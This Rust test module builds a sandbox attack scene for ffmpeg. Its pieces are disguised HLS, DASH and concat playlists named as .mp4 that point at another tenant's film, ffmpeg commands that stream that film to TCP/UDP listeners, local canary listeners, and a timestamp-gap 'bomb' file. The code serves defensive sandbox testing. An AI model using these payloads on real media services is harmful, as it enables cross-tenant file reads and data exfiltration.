//! A scene for attacks: a foreign film, files that lead to it, and listeners that hear who calls.

use std::{
    net::{TcpListener, UdpSocket},
    path::{Path, PathBuf},
    time::Duration,
};

use nexus_core::FrameRate;
use tempfile::TempDir;

use crate::{
    EncodeSpec, Encoder, FrameWriter, MediaError, Preset, Yuv420,
    arguments::{Arguments, file_url},
    jail::{Reach, Sandbox},
    program::Program,
    runner::{self, Launch, Pace},
};

/// The films of two tenants in one folder.
pub(super) struct Scene {
    folder: TempDir,
    /// Somebody else's film.
    pub(super) secret: PathBuf,
    /// The check sum of its first frame.
    pub(super) secret_sum: String,
    /// Another film beside it.
    pub(super) neighbour: PathBuf,
}

/// A file that leads elsewhere.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) file: PathBuf,
}

/// Words that call an address.
pub(super) struct Call {
    pub(super) name: &'static str,
    pub(super) words: Vec<String>,
}

impl Scene {
    /// Makes the films.
    pub(super) async fn set() -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let root = std::fs::canonicalize(folder.path()).expect("it is there");
        let store = root.join("store");
        std::fs::create_dir(&store).expect("a folder");
        let (secret, neighbour) = (store.join("secret.mp4"), store.join("neighbour.mp4"));
        film(&secret, 170).await;
        film(&neighbour, 60).await;
        let words = ["-i", &text(&secret), "-c", "copy", "-f", "mpegts", &text(&store.join("secret.ts"))];
        ffmpeg(Sandbox::Off, &words.map(str::to_owned), Reach::pipes(), Duration::from_secs(20))
            .await
            .expect("the same film in another container");
        let secret_sum = frame_sum(Sandbox::Off, &secret, &[]).await.expect("the film plays");
        Self { folder, secret, secret_sum, neighbour }
    }

    /// Where the attacker's files lie.
    pub(super) fn folder(&self) -> PathBuf {
        std::fs::canonicalize(self.folder.path()).expect("it is there")
    }

    /// A path as ffmpeg is given it.
    pub(super) fn text(&self, path: &Path) -> String {
        text(path)
    }

    /// Text files named like films, which lead to the foreign film.
    pub(super) fn playlists(&self) -> Vec<Attack> {
        let store = self.folder().join("store");
        let stream = store.join("secret.ts").display().to_string();
        let film = self.secret.display();
        let write = |name: &'static str, words: String| {
            let file = self.folder().join(format!("{name}.mp4"));
            std::fs::write(&file, words).expect("written");
            Attack { name, file }
        };
        vec![
            write("hls", format!("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:4,\n{stream}\n#EXT-X-ENDLIST\n")),
            write(
                "dash",
                format!(
                    "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
                     profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\" mediaPresentationDuration=\"PT1S\" \
                     minBufferTime=\"PT1S\"><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" \
                     bandwidth=\"9\" width=\"64\" height=\"64\" codecs=\"avc1.42c01e\"><BaseURL>{film}</BaseURL>\
                     <SegmentBase indexRange=\"0-100\"/></Representation></AdaptationSet></Period></MPD>"
                ),
            ),
            write("concat", "ffconcat version 1.0\nfile store/secret.mp4\n".into()),
        ]
    }

    /// Commands that call a listener.
    pub(super) fn callers(&self, tcp: &str, udp: &str) -> Vec<Call> {
        let playlist = self.folder().join("call.mp4");
        let words = format!("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:4,\nhttp://{tcp}/a.ts\n#EXT-X-ENDLIST\n");
        std::fs::write(&playlist, words).expect("written");
        let secret = text(&self.secret);
        let call = |name, words: &[&str]| Call { name, words: words.iter().map(|word| (*word).to_owned()).collect() };
        vec![
            call("http", &["-i", &format!("http://{tcp}/a.mp4"), "-f", "null", "pipe:1"]),
            call("tcp", &["-i", &secret, "-c", "copy", "-f", "mpegts", &format!("tcp://{tcp}")]),
            call("udp", &["-i", &secret, "-c", "copy", "-f", "mpegts", &format!("udp://{udp}")]),
        ]
    }

    /// A canary that hears connections.
    pub(super) fn tcp(&self) -> TcpCanary {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        listener.set_nonblocking(true).expect("a listener");
        TcpCanary(listener)
    }

    /// A canary that hears datagrams.
    pub(super) fn udp(&self) -> UdpCanary {
        let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
        socket.set_nonblocking(true).expect("a socket");
        UdpCanary(socket)
    }

    /// A small film with two frames twenty hours apart.
    pub(super) async fn gap_bomb(&self) -> PathBuf {
        let bomb = self.folder().join("gap.mkv");
        let apart = "color=s=64x64:r=1,setpts=N*72000/TB";
        let words = ["-f", "lavfi", "-i", apart, "-frames:v", "2", "-fps_mode", "vfr", "-c:v", "mjpeg", &text(&bomb)];
        ffmpeg(Sandbox::Off, &words.map(str::to_owned), Reach::pipes(), Duration::from_secs(20)).await.expect("a bomb");
        bomb
    }
}

/// Hears connections.
pub(super) struct TcpCanary(TcpListener);

impl TcpCanary {
    /// Where it listens.
    pub(super) fn address(&self) -> String {
        self.0.local_addr().expect("bound").to_string()
    }

    /// Connections since it was asked last; each is closed at once.
    pub(super) fn take_hits(&self) -> usize {
        std::iter::from_fn(|| self.0.accept().ok()).count()
    }
}

/// Hears datagrams.
pub(super) struct UdpCanary(UdpSocket);

impl UdpCanary {
    /// Where it listens.
    pub(super) fn address(&self) -> String {
        self.0.local_addr().expect("bound").to_string()
    }

    /// Datagrams since it was asked last.
    pub(super) fn take_hits(&self) -> usize {
        let mut buffer = [0; 2048];
        std::iter::from_fn(|| self.0.recv(&mut buffer).ok()).count()
    }
}

/// The check sum of the first frame of `file`, decoded without any whitelist.
pub(super) async fn frame_sum(sandbox: Sandbox, file: &Path, filter: &[&str]) -> Result<String, MediaError> {
    let url = text(file);
    let words = [&["-i", url.as_str()], filter, &["-frames:v", "1", "-an", "-f", "framemd5", "pipe:1"]].concat();
    let words: Vec<String> = words.into_iter().map(str::to_owned).collect();
    let told = ffmpeg(sandbox, &words, Reach::reading(file), Duration::from_secs(20)).await?;
    let line = told.lines().rfind(|line| !line.starts_with('#')).unwrap_or_default();
    Ok(line.rsplit(", ").next().unwrap_or_default().to_owned())
}

/// Runs ffmpeg with bare `words`; its standard output.
pub(super) async fn ffmpeg(
    sandbox: Sandbox,
    words: &[String],
    reach: Reach<'_>,
    deadline: Duration,
) -> Result<String, MediaError> {
    let start = Arguments::ffmpeg();
    let launch = Launch {
        program: Program::Ffmpeg,
        arguments: words.iter().fold(start, |all, word| all.flag(word)),
        op: "attack",
        file: Path::new("scene"),
        reach,
        deadline,
        pace: Pace::Whole,
    };
    let finished = runner::run_in(sandbox, launch, 1 << 20).await?;
    Ok(String::from_utf8_lossy(&finished.stdout).into_owned())
}

fn text(path: &Path) -> String {
    file_url(path).to_string_lossy().into_owned()
}

async fn film(out: &Path, luma: u8) {
    let spec = EncodeSpec {
        out: out.to_owned(),
        width_px: 64,
        height_px: 64,
        rate: FrameRate::FPS_30,
        crf: 20,
        encoder: Encoder::X264(Preset::Ultrafast),
        threads: 1,
    };
    let mut writer = FrameWriter::open(&spec).await.expect("an encoder");
    let mut frame = Yuv420::new(64, 64);
    frame.y_mut().fill(luma);
    for _ in 0..30 {
        writer.write(&frame).await.expect("a frame");
    }
    writer.finish().await.expect("a film");
}
